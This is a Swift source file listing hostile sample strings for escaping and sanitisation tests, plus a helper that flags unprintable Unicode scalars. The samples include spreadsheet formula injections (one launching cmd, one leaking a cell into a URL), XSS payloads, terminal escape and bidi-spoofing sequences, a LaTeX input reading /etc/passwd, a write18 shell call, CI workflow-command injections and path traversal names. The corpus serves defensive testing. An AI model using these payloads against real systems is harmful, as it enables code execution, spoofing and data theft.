/// What names, labels, cells and descriptions of others may hold, to do harm where they are shown.
package enum HostileText {
  /// Formulas of spreadsheets.
  package static let formulas = [
    "=1+1", "=HYPERLINK(\"https://example.org/?\"&A1,\"open\")", "+1+1", "-1+1",
    "-2+3+cmd|' /C x'!A0",
    "@SUM(1+9)", "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1", " =1+1", "'=1+1", "''=1+1", "\"=1+1\"",
    "a;=1+1", "a;\"=1+1\";b", "a\t=1+1", "a\n=1+1", "a\r\n@SUM(1)", ";-1-1", "a,=1+1", "\",=1+1",
    "＝1+1", "＋1", "－1+1", "＠SUM(1)", "=\u{301}1",
  ]

  /// What a terminal obeys, and what hides or reorders what stands beside it.
  package static let controls = [
    "\u{1B}[2J\u{1B}[31mred", "\u{1B}]0;title\u{07}", "\u{1B}]8;;https://example.org\u{1B}\\x",
    "\u{9B}31mred", "\u{90}q\u{9C}", "a\rb", "a\u{8}\u{7F}b", "a\u{0}b", "a\nb", "a\u{85}b",
    "\u{202E}gnp.exe", "\u{2066}a\u{2069}", "a\u{2028}b", "a\u{200B}\u{FEFF}b", "\u{FFFE}\u{FFFF}",
    "\u{E0001}\u{E0041}",
  ]

  /// Markup, and commands of those that read it.
  package static let markup = [
    "<script>alert(1)</script>", "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\" onload=\"alert(1)", "' onload='alert(1)", "<svg/onload=alert(1)>", "</title><b>", "<!--",
    "-->",
    "]]>", "<![CDATA[", "&lt;b&gt;", "&#x1B;", "<?xml?>", "</failure>", "javascript:alert(1)",
    "\\end{tabular}\\input{/etc/passwd}", "\\write18{id}", "$x_1^2$", "50 % & 5 #1_{x}~", "\\",
    "| a | b |", "a|b", "`code`", "```", "**bold**", "_a_", "__a__", "~~a~~", "# title", "- item",
    "[text](https://example.org)", "![x](https://example.org/x.png)", "https://example.org",
    "www.example.org", "a@example.org", "@someone", "#1", "!1", "x\\|y", "|\u{301}",
    "::error title=a,b::c", "::stop-commands::x", " ::add-mask::x", "##[error]x", "a ##[add-mask]b",
    "a\n::error::b", "%0A::error::b", "a%0D%0A", "title=x,file=y::z", "a: b", "- [x]", "{a: b}",
    "&a *a",
  ]

  /// Names that lead elsewhere as parts of a path, or do not fit.
  package static let paths = [
    "..", ".", "../evil", "../../evil", "/evil", "a/b", "a/../../evil", "a\\b", ".store",
    "baselines", "-",
    "-rf", "--help", "~", "~/evil", "$HOME", "a\u{0}b", "a b", "a.", " ", "a\n", "é", "．．",
    "file:///evil",
    String(repeating: "a", count: 101), String(repeating: "a", count: 256),
    String(repeating: "a/", count: 3000),
  ]

  package static let all = formulas + controls + markup + paths
}

extension Unicode.Scalar {
  /// Whether a terminal would obey it, or shows it as nothing.
  package var isUnprintable: Bool {
    switch properties.generalCategory {
    case .control, .format, .lineSeparator, .paragraphSeparator, .surrogate: true
    default: false
    }
  }
}
